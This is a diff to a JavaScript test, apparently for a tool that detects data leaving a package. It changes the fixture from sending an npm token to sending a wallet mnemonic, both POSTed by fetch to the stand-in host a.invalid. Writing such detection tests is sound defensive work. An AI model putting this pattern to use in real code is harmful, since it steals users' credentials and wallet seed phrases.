@@ -88,7 +88,7 @@ describe('what functions hand on to each other in more ways than can be followed
       60,
       call => `exports.f = (a, b) => { fetch('https://a.invalid', { method: 'POST', body: b }); ${repeated(16, to => call(to, 'a, b'))} };`,
     );
-    const { effects } = behaviourOf({ ...files, 'index.js': `require('./f0').f(1, process.env.NPM_TOKEN);` });
-    assert.ok(effects.some(({ kind, details }) => kind === 'connects' && /npm_token/i.test(details.get('holds') ?? '')));
+    const { effects } = behaviourOf({ ...files, 'index.js': `exports.sign = wallet => require('./f0').f(1, wallet.mnemonic);` });
+    assert.ok(effects.some(({ kind, details }) => kind === 'connects' && /mnemonic/i.test(details.get('holds') ?? '')));
   });
 });
